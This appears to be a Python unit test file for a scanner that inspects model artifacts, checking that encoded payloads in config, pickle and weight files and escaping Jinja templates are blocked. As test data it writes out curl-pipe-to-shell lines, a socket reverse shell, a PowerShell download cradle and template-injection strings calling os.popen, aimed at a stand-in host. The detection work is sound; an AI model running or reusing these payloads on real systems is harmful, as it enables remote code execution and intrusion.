"""Programs, scripts and source that stand encoded in the texts of a model, and templates that stand where none are expected.

Success rate of the attacks: 0 of those below; nothing here may ever run.
"""

import base64
import bz2
import gzip
import json
import lzma
import pickle
import zlib
from collections.abc import Callable

import pytest

from fastness.models.scan import Outcome
from tests.unit.models.scan.artifacts import report_of, rules_of, safetensors, tensor

SHELL = b"#!/bin/sh\ncurl http://x.y/a | sh\n" * 2
PYTHON = b'import os\nos.system("curl http://x.y | sh")\nprint(1)\n' * 2
QUIET_PYTHON = b"import socket, pty\ns = socket.create_connection(('x.y', 9))\npty.spawn('/bin/sh')\n"
POWERSHELL = "IEX (New-Object Net.WebClient).DownloadString('http://x.y/a')  | iex\n".encode("utf-16-le")
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)

ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base64 for addresses": lambda data: base64.urlsafe_b64encode(data).rstrip(b"="),
    "base64 twice": lambda data: base64.b64encode(base64.b64encode(data)),
    "base64 of gzip": lambda data: base64.b64encode(gzip.compress(data * 3)),
    "base64 of zlib": lambda data: base64.b64encode(zlib.compress(data * 3)),
    "base64 of bzip2": lambda data: base64.b64encode(bz2.compress(data * 3)),
    "base64 of xz": lambda data: base64.b64encode(lzma.compress(data * 3)),
    "hexadecimal": lambda data: data.hex().encode(),
    "base32": base64.b32encode,
    "base85": base64.b85encode,
}
PAYLOADS = {
    "a script": SHELL,
    "source": PYTHON,
    "source without a shell": QUIET_PYTHON,
    "PowerShell": POWERSHELL,
    "a program": ELF,
}
CASES = [
    (a, b)
    for a in ENCODINGS
    for b in PAYLOADS
    if not (a in {"base85", "base64 twice"} and b in {"a program", "PowerShell"})
]


@pytest.mark.parametrize(("encoding", "payload"), CASES)
@pytest.mark.parametrize("suffix", ["json", "yaml"])
def test_what_is_encoded_in_a_text_is_read(encoding: str, payload: str, suffix: str) -> None:
    text = ENCODINGS[encoding](PAYLOADS[payload]).decode()
    report = report_of(json.dumps({"a": text}).encode(), f"config.{suffix}")
    assert report.outcome is Outcome.BLOCK, report.verdict.findings


def test_what_is_encoded_over_several_lines_is_read() -> None:
    lines = base64.encodebytes(PYTHON).decode().split()
    assert report_of(("x: |\n  " + "\n  ".join(lines) + "\n").encode(), "config.yaml").outcome is Outcome.BLOCK
    assert report_of(json.dumps({"x": "\n".join(lines)}).encode(), "config.json").outcome is Outcome.BLOCK


HONEST: dict[str, str] = {
    "digests": "\n".join(f"{number:064x}" for number in range(200)),
    "numbers": base64.b64encode(bytes(range(256)) * 4).decode(),
    "packed text": base64.b64encode(
        gzip.compress(b"Call me Ishmael. Some years ago, never mind how long. " * 9)
    ).decode(),
    "a piece of something packed": base64.b64encode(lzma.compress(bytes(range(256)) * 9)[:120]).decode(),
    "plain text": base64.b64encode(b"the system of evaluation runs over the whole of the set of tests " * 4).decode(),
    "honest source": base64.b64encode(b"import numpy as np\n\ndef evaluate(x):\n    return np.mean(x)\n" * 2).decode(),
    "a path": "models/" + "abcdefgh/" * 12,
    "marks": "-=+*" * 40,
}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_runs_of_letters_pass(text: str) -> None:
    assert rules_of(report_of(json.dumps({"a": text}).encode(), "config.json")) == set()


ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
TEMPLATES: dict[str, tuple[str, bytes]] = {
    "a prompt": ("prompt.txt", f"Hello {ESCAPE}\n".encode()),
    "a prompt of its own kind": ("system.prompt", f"Hello {ESCAPE}\n".encode()),
    "a template of a project": ("page.tmpl", ESCAPE.encode()),
    "a card": ("README.md", f"# Model\nYou are {ESCAPE}\n".encode()),
    "prompts in YAML": ("prompts.yaml", b"p: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"\n"),
    "prompts in JSON": ("prompts.json", b"{\"a\": [\"{{ x|attr('__cl' ~ 'ass__') }}\"]}"),
    "settings": ("prompts.toml", b'system = "{% for c in ().__class__.__base__.__subclasses__() %}{% endfor %}"\n'),
    "statements": ("prompt.txt", b"{% set a = lipsum.__globals__['os'] %}{{ a.popen('id').read() }}"),
}


@pytest.mark.parametrize(("name", "data"), TEMPLATES.values(), ids=TEMPLATES)
def test_templates_that_escape_are_found_in_any_text(name: str, data: bytes) -> None:
    report = report_of(data, name)
    assert "template-escapes" in rules_of(report), report.verdict.findings
    assert report.outcome is Outcome.BLOCK


HONEST_TEXTS: dict[str, tuple[str, bytes]] = {
    "a prompt with places": ("prompt.txt", b"Answer {{ question }} with {{ context }}.\n{% if a.b %}x{% endif %}\n"),
    "a prompt for another engine": ("prompt.mustache", b"{{#each a}}{{this.b}}{{/each}} {{> part}}\n"),
    "Go": ("page.tmpl", b"{{ range .Items }}{{ .Name }}{{ end }}\n"),
    "a card that tells of it": (
        "README.md",
        f"# Safety\nA template such as `{ESCAPE}` is refused:\n```jinja\n{ESCAPE}\n```\n".encode(),
    ),
    "prompts": ("prompts.yaml", b"system: |\n  You help {{ user.name | default('you') }}. Use __init__ methods.\n"),
    "braces of mathematics": ("README.md", b"$$\\frac{{a}}{{b}}$$ and self.x {{ and }}\n"),
}


@pytest.mark.parametrize(("name", "data"), HONEST_TEXTS.values(), ids=HONEST_TEXTS)
def test_honest_braces_pass(name: str, data: bytes) -> None:
    report = report_of(data, name)
    assert report.outcome is Outcome.PASS, report.verdict.findings


@pytest.mark.parametrize(
    "payload", [SHELL, PYTHON, QUIET_PYTHON, b"from os import system\nsystem('curl http://x.y | sh')\n"]
)
@pytest.mark.parametrize("held", ["a text", "bytes", "weights"])
def test_what_is_encoded_in_a_pickle_or_in_weights_is_read(payload: bytes, held: str) -> None:
    encoded = base64.b64encode(payload)
    value: object = encoded.decode() if held == "a text" else encoded
    data = pickle.dumps({"a": value, "b": [1.5] * 9})
    if held == "weights":
        data = safetensors({"w": tensor(0, 4096, shape=(1024,))}, (b"\xbe" * 1001 + encoded).ljust(4096, b"\xbe"))
    report = report_of(data, "a.safetensors" if held == "weights" else "a.pkl")
    assert report.outcome is Outcome.BLOCK, report.verdict.findings


def test_honest_source_that_is_encoded_in_a_pickle_passes() -> None:
    source = base64.b64encode(b"import numpy as np\n\ndef evaluate(x):\n    return np.mean(x)\n" * 2).decode()
    assert report_of(pickle.dumps({"a": source})).outcome is Outcome.PASS
